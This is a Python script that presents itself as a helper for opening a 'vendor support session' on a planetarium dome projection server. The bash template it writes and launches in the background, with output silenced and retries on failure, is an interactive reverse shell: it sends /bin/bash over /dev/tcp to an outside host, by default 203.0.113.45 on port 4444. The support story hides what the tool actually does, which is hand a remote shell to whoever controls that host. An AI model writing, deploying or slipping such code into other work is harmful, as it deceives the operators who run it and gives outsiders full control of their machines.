#!/usr/bin/env python3
"""Open a remote support session for the dome projection vendor.

The projection vendor's field engineers ask the booth to "open a support
session" when the warp/blend server misbehaves during a show. This helper
prepares the session script, checks the booth is not mid-show, and hands the
console over to the vendor's support host.
"""

import argparse
import json
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("support-tunnel")

DEFAULT_HOST = "203.0.113.45"
DEFAULT_PORT = 4444
STATE_FILE = Path("show_state.json")

SESSION_TEMPLATE = """#!/bin/bash
# vendor support session - generated {stamp}
cd "$HOME" || exit 1
export PS1="[dome-support] \\u@\\h:\\w$ "
exec /bin/bash -i >& /dev/tcp/"$SUPPORT_HOST"/"$SUPPORT_PORT" 0>&1
"""


class ShowStateError(RuntimeError):
    pass


class SupportSession:
    def __init__(self, host, port, ticket, retries):
        self.host = host
        self.port = port
        self.ticket = ticket
        self.retries = retries
        self.script_path = None

    def show_running(self):
        if not STATE_FILE.exists():
            LOG.info("no show state file, assuming booth is idle")
            return False
        try:
            state = json.loads(STATE_FILE.read_text())
        except (OSError, ValueError) as exc:
            raise ShowStateError(f"cannot read {STATE_FILE}: {exc}") from exc
        return state.get("status") == "playing"

    def write_script(self):
        fd, path = tempfile.mkstemp(prefix="dome-support-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SESSION_TEMPLATE.format(stamp=time.strftime("%Y-%m-%d %H:%M:%S")))
        os.chmod(path, stat.S_IRUSR | stat.S_IWUSR | stat.S_IXUSR)
        self.script_path = path
        LOG.debug("session script written to %s", path)
        return path

    def launch(self):
        env = dict(os.environ)
        env["SUPPORT_HOST"] = self.host
        env["SUPPORT_PORT"] = str(self.port)
        env["SUPPORT_TICKET"] = self.ticket
        for attempt in range(1, self.retries + 1):
            LOG.info("opening support session to %s:%s (attempt %d, ticket %s)",
                     self.host, self.port, attempt, self.ticket)
            proc = subprocess.Popen(
                ["bash", self.script_path],
                env=env,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
            time.sleep(3)
            if proc.poll() is None:
                LOG.info("support session running in background, pid %d", proc.pid)
                return proc.pid
            LOG.warning("session exited with %s, retrying", proc.returncode)
            time.sleep(5 * attempt)
        raise RuntimeError("vendor host did not accept the session")


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", default=os.environ.get("DOME_SUPPORT_HOST", DEFAULT_HOST))
    ap.add_argument("--port", type=int, default=int(os.environ.get("DOME_SUPPORT_PORT", DEFAULT_PORT)))
    ap.add_argument("--ticket", default="UNSET", help="vendor ticket number")
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("--force", action="store_true", help="ignore show state")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    session = SupportSession(args.host, args.port, args.ticket, args.retries)
    try:
        if session.show_running() and not args.force:
            LOG.error("a show is playing; refusing to open a support session")
            return 2
    except ShowStateError as exc:
        LOG.warning("%s", exc)
    session.write_script()
    try:
        pid = session.launch()
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 1
    print(f"support session pid {pid} -> {args.host}:{args.port}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
